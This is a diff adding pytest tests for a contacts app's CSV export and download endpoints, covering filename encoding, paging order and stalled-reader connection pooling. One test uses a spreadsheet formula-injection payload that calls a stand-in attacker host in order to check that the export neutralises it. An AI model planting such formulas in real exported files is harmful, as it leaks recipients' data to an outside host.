@@ -5,18 +5,24 @@ from __future__ import annotations
 import csv
 import io
 import os
+import select
+import socket
 import subprocess
 import sys
+import time
+from urllib.parse import unquote
 
 import httpx
 import pytest
+from sqlalchemy import text
 
 from app.api.downloads import EXPORT_PATH, error_report_path
-from app.services import auth, contacts, tokens
-from app.services.demo import DEMO_SLUG, seed_demo
+from app.services import auth, contacts, csv_export, csv_import, custom_fields, tokens
 from app.services.contacts import ContactQuery
+from app.services.demo import DEMO_SLUG, seed_demo
+from models.db import get_engine, session_scope
 from tests.scratch_db import ROOT
-from tests.test_csv_import import SEED_EXAMPLE, run_import
+from tests.test_csv_import import SEED_EXAMPLE, run_import, upload
 
 
 @pytest.fixture
@@ -76,6 +82,118 @@ def test_error_report_endpoint_with_a_bearer_token(api_url, owner):
     response = httpx.get(api_url + error_report_path(done.id), headers={"Authorization": f"Bearer {bearer}"})
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0] == ["row", "column", "value", "reason"] and rows[1][:3] == ["2", "contact_email", "bad@"]
+
+
+def test_spreadsheet_formulas_in_header_labels_and_error_reasons_are_neutralised(api_url, owner):
+    principal, _ = owner
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
+    custom_fields.create_field(principal.scope, label=formula, field_type="number", name="score")
+    contacts.create_contact(principal.scope, {"business_name": "Biz", "contact_name": "Ann"})
+    exported = httpx.get(api_url + auth.download_link(principal, EXPORT_PATH)).content.decode("utf-8-sig")
+    header = next(csv.reader(io.StringIO(exported)))
+    assert header[-1] == "'" + formula
+    # A row whose custom field is not a number: the reason quotes the label, which starts with "=".
+    done = run_import(principal.scope, "business_name,contact_name,score\nBiz 2,Bo,lots\n",
+                      mapping=["business_name", "contact_name", "cf:score"])
+    report = httpx.get(api_url + auth.download_link(principal, error_report_path(done.id))).content.decode("utf-8-sig")
+    reasons = [row[3] for row in csv.reader(io.StringIO(report))][1:]
+    assert reasons and all(r.startswith("'=HYPERLINK") for r in reasons), reasons
+
+
+def test_a_download_named_in_any_script_gets_its_name(api_url, owner):
+    """RFC 6266/5987: an ASCII fallback for old clients, the exact UTF-8 name for the others."""
+    principal, _ = owner
+    view = upload(principal.scope, "business_name,contact_name,contact_email\nA,Ann,bad@\n", name="Клиенты «май».csv")
+    csv_import.start(principal.scope, view.id, view.mapping, {"duplicates": "skip"}, enqueue=False)
+    csv_import.execute(view.id)
+    response = httpx.get(api_url + auth.download_link(principal, error_report_path(view.id)))
+    assert response.status_code == 200
+    disposition = response.headers["content-disposition"]
+    assert disposition.startswith('attachment; filename="') and disposition.isascii()
+    encoded = disposition.split("filename*=UTF-8''", 1)[1]
+    assert unquote(encoded) == "Клиенты «май»-errors.csv"
+    assert 'filename="contacts.csv"' in httpx.get(api_url + auth.download_link(principal, EXPORT_PATH)).headers[
+        "content-disposition"]
+
+
+@pytest.mark.parametrize("sort", list(contacts.SORTS))
+def test_the_export_pages_through_every_contact_once_in_order(owner, monkeypatch, sort):
+    principal, _ = owner
+    with session_scope() as s:  # equal sort keys and empty last-contact dates: ties the pages must not split
+        s.execute(text("INSERT INTO contacts (tenant_id, business_name, contact_name, created_at, last_interaction_at) "
+                       "SELECT :t, 'Biz ' || (g % 4), 'P', '2026-01-01'::timestamptz + (g % 3) * interval '1 day', "
+                       "CASE WHEN g % 2 = 0 THEN '2026-02-01'::timestamptz + (g % 5) * interval '1 hour' END "
+                       "FROM generate_series(1, 23) g"), {"t": principal.tenant_id})
+    monkeypatch.setattr(csv_export, "PAGE_ROWS", 4)
+    rows = list(csv.reader(io.StringIO("".join(csv_export.export_contacts(principal.scope, ContactQuery(sort=sort))))))
+    page = contacts.search_contacts(principal.scope, ContactQuery(sort=sort, per_page=100))
+    assert [r[0] for r in rows[1:]] == [str(c.id) for c in page.items] and len(rows) == 24
+
+
+def _dechunk(body: bytes) -> bytes:
+    """An HTTP/1.1 chunked body's content."""
+    out, rest = b"", body
+    while True:
+        size_line, rest = rest.split(b"\r\n", 1)
+        size = int(size_line, 16)
+        if size == 0:
+            return out
+        out, rest = out + rest[:size], rest[size + 2:]
+
+
+def _stalled_reader(api_url: str, path: str) -> socket.socket:
+    """A client that sends its request and then reads nothing (a tiny receive window, never drained)."""
+    host, port = api_url.removeprefix("http://").split(":")
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    sock.connect((host, int(port)))
+    sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+    return sock
+
+
+def test_forty_stalled_download_readers_hold_no_pooled_connection(api_url, owner):
+    """Downloads read a page at a time and give their connection back in between: forty readers that stop
+    reading leave the pool (10 + 20 overflow) free, and the API keeps answering."""
+    principal, _ = owner
+    with session_scope() as s:  # 6 MB of CSV: more than the server's socket buffers take in for a stalled reader
+        s.execute(text("INSERT INTO contacts (tenant_id, business_name, contact_name, notes) "
+                       "SELECT :t, 'Biz ' || g, 'P ' || g, repeat('n', 4000) FROM generate_series(1, 1500) g"),
+                  {"t": principal.tenant_id})
+    link = auth.download_link(principal, EXPORT_PATH)
+    readers = [_stalled_reader(api_url, link) for _ in range(40)]
+    try:
+        # Every reader has its download under way (a 200 and the first bytes waiting, unread)...
+        deadline = time.monotonic() + 60
+        waiting = list(readers)
+        while waiting and time.monotonic() < deadline:
+            readable, _, _ = select.select(waiting, [], [], 1)
+            waiting = [r for r in waiting if r not in readable]
+        assert not waiting, f"{len(waiting)} of 40 downloads never started"
+        statuses = {r.recv(64, socket.MSG_PEEK).split(b" ", 2)[1] for r in readers}
+        assert statuses == {b"200"}
+        # ...and once the server has filled their buffers, no connection is checked out for them.
+        pool = get_engine().pool
+        deadline = time.monotonic() + 60
+        while pool.checkedout() and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert pool.checkedout() == 0
+        bearer, _ = auth.issue_api_token(principal)
+        response = httpx.get(f"{api_url}/api/v1/contacts", headers={"Authorization": f"Bearer {bearer}"}, timeout=60)
+        assert response.status_code == 200 and response.json()["items"]
+        # A reader that resumes gets the whole export.
+        first = readers[0]
+        first.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
+        first.settimeout(60)
+        data = b""
+        while not data.endswith(b"0\r\n\r\n"):
+            chunk = first.recv(1 << 20)
+            assert chunk, "the download ended early"
+            data += chunk
+        exported = _dechunk(data.split(b"\r\n\r\n", 1)[1]).decode("utf-8-sig")
+        assert len(list(csv.reader(io.StringIO(exported)))) == 1501
+    finally:
+        for r in readers:
+            r.close()
 
 
 def _cli(*args: str) -> subprocess.CompletedProcess:
